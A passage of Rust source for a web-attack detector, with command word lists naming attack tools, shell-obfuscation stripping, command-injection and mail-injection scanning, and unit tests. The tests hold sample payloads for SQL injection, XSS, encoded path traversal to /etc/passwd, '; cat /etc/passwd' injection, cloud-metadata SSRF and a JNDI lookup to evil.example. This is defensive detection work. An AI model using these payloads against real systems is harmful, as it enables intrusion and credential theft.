    "cp",
    "mv",
    "install",
    "jq",
    "sqlite3",
    "mysql",
    "psql",
    "mongo",
    "redis-cli",
    "lwp-download",
    "lwp-request",
    "lynx",
    "links",
    "w3m",
    "aria2c",
    "axel",
    "fetch",
    "gpg",
    "ssh-keygen",
    "ps1",
    "bitsadmin",
    "ls-al",
    "su",
    "kill",
    "head",
    "tail",
    "more",
    "less",
    "set",
    "top",
    "time",
    "type",
    "fold",
    "split",
    "pr",
    "fmt",
    "expand",
    "column",
    "paste",
    "join",
    "comm",
    "look",
    "tr",
    "test",
    "true",
    "false",
    "nice",
    "renice",
    "watch",
    "screen",
    "tmux",
    "script",
    "expect",
    "pico",
    "joe",
    "aa-disable",
    "aa-exec",
    "rmt",
    "rmt-tar",
    "pdksh",
    "mksh",
    "ash",
    "fish",
    "rbash",
    "jjs",
    "jrunscript",
    "irb",
    "tclsh",
    "wish",
    "ghci",
    "runghc",
    "R",
    "rscript",
    "octave",
    "zip",
    "ar",
    "cpio",
    "pax",
    "shuf",
    "base32",
    "basenc",
    "uuencode",
    "uudecode",
    "cd",
    "pipx",
    "bridge",
    "lastlogin",
    "date",
    "aptitude",
    "htop",
    "bsdtar",
    "regedit",
    "ssh-copy-id",
    "trap",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "acpi",
    "bsdcpio",
    "chattr",
    "lsattr",
    "getent",
    "groups",
    "users",
    "finger",
    "pinky",
    "runuser",
    "setsid",
    "unshare",
    "nsenter",
    "capsh",
    "pkexec",
    "doas",
    "ansible-test",
    "ansible-lint",
    "chef-apply",
    "chef-solo",
    "crowdsec",
    "tcpdump",
    "tshark",
    "wireshark",
    "whois",
    "nft",
    "ufw",
    "firewall-cmd",
    "zypper",
    "pacman",
    "snap",
    "flatpak",
    "rpm",
    "dpkg",
    "apt-cache",
    "cmake",
    "ninja",
    "go",
    "cargo",
    "rustc",
    "javac",
    "java",
    "mvn",
    "gradle",
    "deno",
    "bun",
    "npx",
    "yarn",
    "pnpm",
    "php-cgi",
    "php-fpm",
    "python3.10",
    "python3.11",
    "python3.12",
    "python3.9",
    "perl5",
    "ruby2",
    "certreq",
    "diskpart",
    "format",
    "wipe",
    "sfdisk",
    "fdisk",
    "parted",
    "mkfs",
    "losetup",
    "cryptsetup",
    "gpg2",
    "openvpn",
    "ssh-keyscan",
    "sshpass",
    "proxychains",
    "torsocks",
    "msfconsole",
    "msfvenom",
    "sqlmap",
    "adduser",
    "iwmi",
    "gwmi",
    "invoke-wmimethod",
    "get-wmiobject",
    "invoke-expression",
    "invoke-webrequest",
    "start-process",
];

/// Commands that are also common English words: they need a shell-looking argument.
const COMMANDS_AMBIGUOUS: &[&str] = &[
    "cat", "tac", "find", "more", "less", "head", "tail", "set", "top", "time", "type", "kill",
    "file", "test", "sort", "cut", "who", "last", "w", "at", "host", "view", "ex", "ed", "make",
    "install", "look", "join", "paste", "split", "fold", "expand", "column", "watch", "screen",
    "script", "expect", "fetch", "copy", "move", "dir", "del", "ren", "net", "echo", "source",
    "export", "history", "sleep", "timeout", "yes", "true", "false", "nice", "env", "id", "ps",
    "ls", "ll", "la", "ip", "dd", "ln", "cp", "mv", "rm", "su", "sc", "cc", "nl", "od", "ar", "tr",
    "pr", "wc", "fmt", "shuf", "comm", "rev", "uniq", "diff", "cmp", "stat", "locate", "which",
    "service", "route", "mount", "apt", "gem", "node", "php", "salt", "chef", "links", "tee", "sh",
    "pip", "perf", "flock", "awk", "sed", "grep", "uptime", "hostname", "mail", "reg", "exec",
    "eval", "alias", "print", "printf", "zip", "tar", "docker", "puppet", "knife", "joe", "pico",
    "dnf", "ping", "ssh", "vi", "ash", "fish", "mysql", "nano", "emacs", "go", "git", "r", "jq",
    "ruby", "perl", "python", "lua", "wish", "ftp", "npm", "apk", "yum", "cmd", "unset", "start",
    "cd", "date", "bridge", "trap", "format", "groups", "users", "finger", "java", "halt", "tmux",
    "snap",
];

static COMMAND_SET: LazyLock<WordSet> = LazyLock::new(|| COMMANDS_STRONG.iter().copied().collect());
static AMBIGUOUS_SET: LazyLock<WordSet> =
    LazyLock::new(|| COMMANDS_AMBIGUOUS.iter().copied().collect());

/// Whether `b` separates shell commands.
fn is_separator(b: u8) -> bool {
    matches!(b, b';' | b'|' | b'&' | b'`' | b'\n' | b'\r')
}

/// Strips shell obfuscation from a command word: quotes, backslashes, `$@`, `$*`, `${x}`
/// (unset variables expand to nothing). Returns the cleaned word and how many bytes it spanned.
fn shell_word(v: &[u8], from: usize) -> (Word, usize, bool) {
    let mut w = Word::default();
    let mut i = from;
    let at = |i: usize| v.get(i).copied().unwrap_or(0);
    // Whether something was removed from between two letters of the word.
    let mut inner = false;
    let mut removed_pending = false;
    // Whether a path prefix was stripped, and whether it was a `bin` directory.
    let mut path = false;
    let mut bin = false;
    // A quote opened inside the word (`'i'fconfig`, `"w"get`).
    let mut open_quote: Option<u8> = None;
    while i < v.len() && w.len() < 32 {
        let b = at(i);
        match b {
            b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'+' | b'.' => {
                if removed_pending && !w.is_empty() {
                    inner = true;
                }
                removed_pending = false;
                w.push(char::from(b));
                i += 1;
            }
            b'\'' | b'"' if open_quote == Some(b) => {
                open_quote = None;
                removed_pending = true;
                i += 1;
            }
            b'\'' | b'"' => {
                // Paired quotes inside a word hide it (`ca''t`, `c'a't`); a lone apostrophe
                // (`I'd`) ends it.
                if w.is_empty() {
                    open_quote = Some(b);
                } else {
                    let close = v
                        .get(i + 1..)
                        .unwrap_or_default()
                        .iter()
                        .take(12)
                        .position(|&c| c == b);
                    let paired = close.is_some_and(|c| {
                        v.get(i + 1..i + 1 + c)
                            .is_some_and(|inner| inner.iter().all(u8::is_ascii_alphanumeric))
                    });
                    match close {
                        Some(c) if paired => {
                            for &ch in v.get(i + 1..i + 1 + c).unwrap_or_default() {
                                w.push(char::from(ch));
                            }
                            inner = true;
                            i += c + 2;
                            continue;
                        }
                        _ => break,
                    }
                }
                removed_pending = true;
                i += 1;
            }
            b'\\' if at(i + 1).is_ascii_alphabetic() => {
                removed_pending = true;
                i += 1;
            }
            b'$' if matches!(at(i + 1), b'@' | b'*' | b'!' | b'?' | b'-' | b'#' | b'_') => {
                removed_pending = true;
                i += 2;
            }
            b'$' if at(i + 1) == b'$' => {
                removed_pending = true;
                i += 2;
            }
            b'>' | b'$' | b'<' if at(i + 1) == b'(' && at(i + 2) == b')' => {
                // An empty substitution (`ping$()`) is never prose, even at the end of a word.
                inner |= !w.is_empty();
                removed_pending = true;
                i += 3;
            }
            b'[' if at(i + 1).is_ascii_alphanumeric() && at(i + 2) == b']' => {
                // A one-character glob class (`adduse[r]`, `/bi[n]/`) is that character.
                if !w.is_empty() {
                    inner = true;
                }
                w.push(char::from(at(i + 1)));
                removed_pending = false;
                i += 3;
            }
            b'$' if at(i + 1) == b'{' => {
                let close = v
                    .get(i..)
                    .unwrap_or_default()
                    .iter()
                    .take(20)
                    .position(|&c| c == b'}');
                match close {
                    Some(c) => {
                        removed_pending = true;
                        i += c + 1;
                    }
                    None => break,
                }
            }
            b'$' if at(i + 1).is_ascii_lowercase() && !w.is_empty() => {
                // `$u` inside a word: an unset variable.
                removed_pending = true;
                i += 2;
            }
            b'`' if at(i + 1) == b'`' => {
                inner |= !w.is_empty();
                removed_pending = true;
                i += 2;
            }
            b'/' => {
                // A path prefix: `/bin/cat` is `cat`; `/head` is a URL path, not a command.
                bin |= matches!(w.as_str(), "bin" | "sbin");
                path = true;
                w.clear();
                i += 1;
            }
            _ => break,
        }
    }
    if path && !bin {
        w.clear();
    }
    (w, i - from, inner)
}

/// A short ASCII word on the stack: command words are looked up at every separator, so they
/// must not allocate.
#[derive(Default)]
struct Word {
    buf: [u8; 32],
    len: usize,
}

impl Word {
    fn push(&mut self, c: char) {
        if let (Some(slot), true) = (self.buf.get_mut(self.len), c.is_ascii()) {
            *slot = c as u8;
            self.len += 1;
        }
    }
    fn clear(&mut self) {
        self.len = 0;
    }
    fn is_empty(&self) -> bool {
        self.len == 0
    }
    fn len(&self) -> usize {
        self.len
    }
    fn as_str(&self) -> &str {
        std::str::from_utf8(self.buf.get(..self.len).unwrap_or_default()).unwrap_or("")
    }
}

/// Whether what follows a command reads as shell rather than prose.
fn shell_argument(v: &[u8], from: usize) -> bool {
    let mut i = from;
    while matches!(v.get(i), Some(b' ' | b'\t')) {
        i += 1;
    }
    let Some(&b) = v.get(i) else {
        return true;
    };
    if i == from
        && !matches!(
            b,
            b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b')'
        )
    {
        // No space after the word: it was part of something longer.
        return false;
    }
    // A dash, slash or dot only counts when something is glued to it (`-la`, `/etc`,
    // `./x`), not as punctuation (`Time / behind`, `a - b`).
    let glued_next = v.get(i + 1).is_some_and(|c| !c.is_ascii_whitespace());
    if matches!(b, b'-' | b'/' | b'.') && !glued_next {
        return false;
    }
    match b {
        b'-' | b'+' | b'/' | b'.' | b'~' | b'\'' | b'"' | b'<' | b'>' | b';' | b'`' | b'*'
        | b'\\' | b'\n' | b'\r' | b'{' => true,
        b'$' => v
            .get(i + 1)
            .is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, b'{' | b'(' | b'_')),
        b'a'..=b'z' => {
            // Another command or a path-like word (`cat test.txt`, `perf --version`).
            let end = v
                .get(i..)
                .unwrap_or_default()
                .iter()
                .position(|c| {
                    !(c.is_ascii_alphanumeric()
                        || matches!(c, b'_' | b'-' | b'.' | b'/' | b'*' | b'?'))
                })
                .map_or(v.len(), |p| i + p);
            let word = v.get(i..end).unwrap_or_default();
            let s = std::str::from_utf8(word).unwrap_or("");
            (COMMAND_SET.contains(s) && !AMBIGUOUS_SET.contains(s))
                || word.contains(&b'/')
                || (word.contains(&b'.') && word.len() > 3 && !word.ends_with(b"."))
                || matches!(v.get(end), Some(b'|' | b';' | b'>' | b'<' | b'`' | b'&'))
        }
        b'0'..=b'9' => v
            .get(i..)
            .unwrap_or_default()
            .iter()
            .take(16)
            .all(|c| c.is_ascii_digit() || *c == b'.'),
        _ => false,
    }
}

/// Commands that are no English word and rarely a parameter value.
const UNMISTAKABLE: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "uname",
    "netstat",
    "nslookup",
    "systeminfo",
    "visudo",
    "useradd",
    "crontab",
    "nohup",
    "ncat",
    "netcat",
    "socat",
    "powershell",
    "pwsh",
    "certutil",
    "mshta",
    "rundll32",
    "regsvr32",
    "tasklist",
    "taskkill",
    "bitsadmin",
    "wmic",
    "printenv",
    "traceroute",
    "tracert",
    "chef-shell",
    "ansible-console",
    "ansible-inventory",
    "cscli",
    "ansible",
    "ansible-playbook",
    "ansible-galaxy",
    "ansible-pull",
    "ansible-config",
    "ansible-doc",
    "ansible-vault",
    "ansible-test",
    "ansible-lint",
    "chef-client",
    "chef-run",
    "chef-vault",
    "chef-apply",
    "chef-solo",
    "ssh-copy-id",
    "aa-disable",
    "aa-exec",
    "pipx",
    "bsdtar",
    "bsdcpio",
    "regedit",
    "zstdcat",
    "aptitude",
    "htop",
    "strace",
    "ltrace",
    "busybox",
    "mkfifo",
    "msfconsole",
    "msfvenom",
    "sqlmap",
    "sshpass",
    "nsenter",
    "pkexec",
    "getent",
    "lwp-download",
    "lwp-request",
    "tcpdump",
    "certreq",
    "diskpart",
    "vssadmin",
    "icacls",
    "schtasks",
    "wevtutil",
    "bcdedit",
    "bcdboot",
    "cscript",
    "wscript",
];

/// Whether the next word is a command that is no English word (`time ifconfig`).
fn next_word_is_command(v: &[u8], from: usize) -> bool {
    let mut i = from;
    while matches!(v.get(i), Some(b' ' | b'\t')) {
        i += 1;
    }
    let (w, _, _) = shell_word(v, i);
    let s = w.as_str();
    COMMAND_SET.contains(s) && !AMBIGUOUS_SET.contains(s)
}

/// Whether the rest of the value holds something only shell writes: an option, a path, a pipe
/// or redirection, a variable or a substitution.
fn shell_tail(v: &[u8], from: usize) -> bool {
    let rest = v.get(from..).unwrap_or_default();
    let end = rest
        .iter()
        .take(120)
        .position(|&c| c == b'\n' || c == b'&')
        .unwrap_or(rest.len().min(120));
    let tail = rest.get(..end).unwrap_or_default();
    tail.windows(2).any(|w| {
        matches!(
            w,
            [b' ', b'-'] | [b' ', b'/'] | [_, b'|'] | [_, b'>'] | [_, b'$'] | [_, b'`']
        )
    })
}

/// Whether the value from `from` to its end is a few words only (`cscli alerts list`).
fn short_value(v: &[u8], from: usize) -> bool {
    let rest = v.get(from..).unwrap_or_default();
    // Bounded look-ahead: only values of at most 40 bytes qualify.
    let end = rest
        .iter()
        .take(41)
        .position(|&c| c == b'\n' || c == b'&')
        .unwrap_or(rest.len().min(41));
    rest.first() == Some(&b' ')
        && end <= 40
        && rest
            .get(..end)
            .is_some_and(|t| t.iter().filter(|&&c| c == b' ').count() <= 4)
}

/// Whether the argument after a command starts with a character only shell uses.
fn explicit_shell_arg(v: &[u8], from: usize) -> bool {
    let mut i = from;
    while matches!(v.get(i), Some(b' ' | b'\t')) {
        i += 1;
    }
    match v.get(i) {
        Some(b'-' | b'/' | b'~' | b'<' | b'>' | b'`' | b'*') => true,
        Some(b'$') => v
            .get(i + 1)
            .is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, b'{' | b'(')),
        _ => false,
    }
}

/// Skips an unset variable and the blanks after it (`$u ` in `;$u cat x`), when a word follows.
/// Returns where the command word starts and whether something was skipped.
fn skip_unset_variable(v: &[u8], from: usize) -> (usize, bool) {
    if v.get(from) != Some(&b'$') || !v.get(from + 1).is_some_and(u8::is_ascii_lowercase) {
        return (from, false);
    }
    let name = v
        .get(from + 1..)
        .unwrap_or_default()
        .iter()
        .take(16)
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    let mut j = from + 1 + name;
    let blanks = j;
    while j < blanks + 4 && matches!(v.get(j), Some(b' ' | b'\t')) {
        j += 1;
    }
    if j > blanks && v.get(j).is_some_and(u8::is_ascii_lowercase) {
        (j, true)
    } else {
        (from, false)
    }
}

/// Whether the backtick at `open` starts markdown inline code inside prose: a blank before it,
/// the closing backtick right after the word, and prose going on after that.
fn markdown_code(v: &[u8], open: usize, word_end: usize) -> bool {
    let before_blank = open
        .checked_sub(1)
        .and_then(|p| v.get(p))
        .is_some_and(|c| matches!(c, b' ' | b'\t' | b'(' | b'\n'));
    before_blank
        && v.get(word_end) == Some(&b'`')
        && v.get(word_end + 1) == Some(&b' ')
        && v.get(word_end + 2).is_some_and(u8::is_ascii_alphabetic)
}

fn command_scan(v: &[u8], view: &View<'_>, out: &mut Vec<Hit>) {
    let mut reported = 0;
    let mut i = 0;
    // Start of a value: the text start, after `=` of a key, or a new line.
    while i < v.len() && reported < 8 {
        let b = v.get(i).copied().unwrap_or(0);
        let sep_end =
            if is_separator(b) || b == b'=' || i == 0 || b == b'$' && v.get(i + 1) == Some(&b'(') {
                let mut j = if i == 0 && !is_separator(b) && b != b'=' {
                    0
                } else {
                    i + 1
                };
                if b == b'$' {
                    j = i + 2;
                }
                // `&&`, `||`, `|&`, then blanks; bounded, so a run of thousands of `&` or
                // spaces costs a constant per byte, not the length of the run.
                let limit = j + 16;
                while j < limit && matches!(v.get(j), Some(b'&' | b'|')) {
                    j += 1;
                }
                let limit = j + 16;
                while j < limit && matches!(v.get(j), Some(b' ' | b'\t')) {
                    j += 1;
                }
                Some(j)
            } else {
                None
            };
        let Some(word_start) = sep_end else {
            i += 1;
            continue;
        };
        // A markdown code fence (```sh) or a doubled backtick is no command substitution.
        if b == b'`'
            && (v.get(i + 1) == Some(&b'`')
                || i.checked_sub(1).and_then(|p| v.get(p)) == Some(&b'`'))
        {
            i += 1;
            continue;
        }
        // An unset variable before the command (`;$u cat x`) expands to nothing.
        let (word_start, unset_var) = skip_unset_variable(v, word_start);
        let (word, used, obfuscated) = shell_word(v, word_start);
        let obfuscated = obfuscated || unset_var;
        let word_end = word_start + used;
        // `python3.10`, `gcc7.4`: a versioned command is the command.
        let word_str = {
            let w = word.as_str();
            if COMMAND_SET.contains(w) {
                w
            } else {
                w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
            }
        };
        let known = COMMAND_SET.contains(word_str);
        if known && !word.is_empty() {
            let strong_sep = matches!(b, b';' | b'|' | b'`' | b'$')
                || (b == b'&' && v.get(i + 1) == Some(&b'&'))
                || (matches!(b, b'\n' | b'\r') && view.is_escaped(i));
            let at_value_start =
                i == 0 || b == b'=' || b == b'\n' || b == b'(' || b == b'{' || b == b'&';
            let ambiguous = AMBIGUOUS_SET.contains(word_str);
            let unmistakable = UNMISTAKABLE.contains(&word_str);
            let arg = shell_argument(v, word_end);
            // The word must end at a word boundary.
            let boundary = !v.get(word_end).is_some_and(|c| c.is_ascii_alphanumeric());
            let value_end = |k: usize| v.get(k).is_none_or(|c| matches!(c, b'\n' | b'&' | b'\r'));
            let end_of_value = value_end(word_end)
                // `';htop'`: a quote closing right after the command, also a JSON string's
                // (`{";top":1}`).
                || (matches!(v.get(word_end), Some(b'\'' | b'"'))
                    && (value_end(word_end + 1)
                        || matches!(v.get(word_end + 1), Some(b':' | b',' | b'}' | b']'))))
                || (b == b'$' && v.get(word_end) == Some(&b')'));
            let fire = boundary
                && if obfuscated {
                    true
                } else if strong_sep {
                    if b == b'`' && markdown_code(v, i, word_end) && !unmistakable {
                        // `` `join` the workers``: inline code in prose, not a substitution.
                        false
                    } else if ambiguous || b == b'|' || b == b'`' {
                        // `| Time |` in a table, `` `join` `` in prose: only with a shell argument.
                        (arg && !end_of_value)
                            || (end_of_value
                                && b != b'|'
                                && b != b'`'
                                && !v.get(word_start).is_some_and(|c| *c == b'"' || *c == b'\''))
                    } else {
                        arg || end_of_value || shell_tail(v, word_end) || short_value(v, word_end)
                    }
                } else if at_value_start {
                    // No separator: only a shell-looking argument, or a command that is no word.
                    let glued = v.get(word_end) == Some(&b';');
                    (arg && !end_of_value
                        && !glued
                        && (!ambiguous
                            || explicit_shell_arg(v, word_end)
                            || next_word_is_command(v, word_end)))
                        || (unmistakable
                            && (end_of_value
                                || glued
                                || shell_tail(v, word_end)
                                || short_value(v, word_end)))
                } else {
                    false
                };
            if fire {
                let sev = if (strong_sep && b != b'`') || obfuscated {
                    High
                } else {
                    Medium
                };
                let end = v
                    .get(word_end..)
                    .unwrap_or_default()
                    .iter()
                    .take(120)
                    .position(|&c| c == b'\n')
                    .map_or((word_end + 120).min(v.len()), |p| word_end + p);
                let start = if b == b'=' || (i == 0 && !is_separator(b)) {
                    word_start
                } else {
                    i
                };
                out.push(hit(
                    "command_injection",
                    sev,
                    if strong_sep { 0.9 } else { 0.7 },
                    start,
                    end.max(word_end),
                ));
                reported += 1;
                i = end.max(i + 1);
                continue;
            }
        }
        i += 1;
    }
    // Mail-protocol injection: an encoded new line followed by an SMTP, IMAP or POP3 command.
    if view.escaped.is_some() {
        mail_injection(v, view, out);
    }
}

static MAIL_RE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    RegexBuilder::new(
        r"(?:\r?\n)[ \t]*(?:(?:mail\s+from|rcpt\s+to)\s*:|(?:helo|ehlo|vrfy|expn|auth|etrn|bdat)\b|(?:starttls|rset|noop|quit|data|help|turn)[ \t]*(?:\r|\n|$)|[a-z0-9]{1,8}\s+(?:login|select|examine|create|delete|rename|subscribe|unsubscribe|list|lsub|status|append|check|close|expunge|search|fetch|store|copy|uid|authenticate|capability|logout|starttls|idle|getquota|setacl|namespace)\b|(?:user|pass|apop|stat|list|retr|dele|top|uidl|capa|stls)\s+\S)",
    )
    .unicode(false)
    .build()
    .ok()
});

fn mail_injection(v: &[u8], view: &View<'_>, out: &mut Vec<Hit>) {
    let Some(re) = MAIL_RE.as_ref() else {
        return;
    };
    for m in re.find_iter(v).take(4) {
        // Only a new line that arrived encoded is an injection; literal lines are just text.
        let nl = v
            .get(m.start()..m.end())
            .unwrap_or_default()
            .iter()
            .position(|&c| c == b'\n')
            .map(|p| m.start() + p);
        if nl.is_some_and(|p| view.is_escaped(p)) {
            let end = v
                .get(m.end()..)
                .unwrap_or_default()
                .iter()
                .position(|&c| c == b'\n' || c == b'\r')
                .map_or(v.len(), |p| m.end() + p);
            out.push(hit("command_injection", Medium, 0.7, m.start(), end));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::NormalizeOptions;

    /// Fingerprints of each value of `text` in the three contexts (for debugging shapes).
    fn fingerprints(text: &str) -> Vec<String> {
        let view = View::new(text);
        let mut toks = Vec::new();
        let mut out = Vec::new();
        for (s, e) in values(&view.bytes, &|i| view.is_escaped(i)) {
            let val = view.bytes.get(s..e).unwrap_or_default();
            for q in [None, Some(b'\''), Some(b'"')] {
                sql_tokens(val, s, q, &mut toks);
                out.push(toks.iter().map(|t| char::from(t.kind)).collect());
            }
        }
        out
    }

    #[test]
    fn classic_payload_fingerprints() {
        // As is, `1' OR '1'='1` opens a string; inside a quoted context it is a tautology.
        let fps = fingerprints("id=1' OR '1'='1");
        assert!(fps.iter().any(|f| f == "s&sos"), "{fps:?}");
        let fps = fingerprints("q=x UNION ALL SELECT 1");
        assert!(fps.iter().any(|f| f.contains("UkE")), "{fps:?}");
    }

    fn kinds(text: &str) -> Vec<String> {
        let n = Normalized::new(text, &NormalizeOptions::default());
        let mut out = Vec::new();
        WebAttackDetector::default().detect(&n, &mut out);
        let mut k: Vec<String> = out.into_iter().map(|f| f.kind.into_owned()).collect();
        k.sort();
        k.dedup();
        k
    }

    #[test]
    fn sql_payloads_fire_and_prose_does_not() {
        assert_eq!(kinds("id=1' OR '1'='1"), ["sqli"]);
        assert_eq!(kinds("q=foo') UNION ALL SELECT NULL--"), ["sqli"]);
        assert!(
            kinds("Please select the union representative who will drop by at noon.").is_empty()
        );
        assert!(kinds("I'd like 2 or 3 apples, and 1 pear.").is_empty());
    }

    #[test]
    fn encoded_payloads_are_decoded() {
        assert_eq!(kinds("/get?x=%3Cscript%3Ealert(1)%3C/script%3E"), ["xss"]);
        assert_eq!(
            kinds("/file?p=..%c0%af..%c0%afetc%c0%afpasswd"),
            ["path_traversal"]
        );
    }

    #[test]
    fn shell_commands_need_shell_context() {
        assert_eq!(
            kinds("host=example.com; cat /etc/passwd"),
            ["command_injection", "path_traversal"]
        );
        assert!(kinds("a hero; more than a legend").is_empty());
        assert!(kinds("hello; time he came").is_empty());
    }

    #[test]
    fn ssrf_and_templates() {
        assert!(kinds("url=http://169.254.169.254/latest/meta-data/").contains(&"ssrf".to_owned()));
        assert_eq!(kinds("name={{7*7}}"), ["template_injection"]);
        assert_eq!(
            kinds("${jndi:ldap://evil.example/a}"),
            ["template_injection"]
        );
        assert!(kinds("Hello {{username}}, welcome").is_empty());
    }

    #[test]
    fn spans_map_back_to_the_original() {
        let text = "q=%27%20OR%201%3D1--";
        let n = Normalized::new(text, &NormalizeOptions::default());
        let mut out = Vec::new();
        WebAttackDetector::default().detect(&n, &mut out);
        let f = out.first().map(|f| f.span);
        assert_eq!(
            f.and_then(|s| text.get(s.start..s.end)),
            Some("%27%20OR%201%3D1--")
        );
    }
}
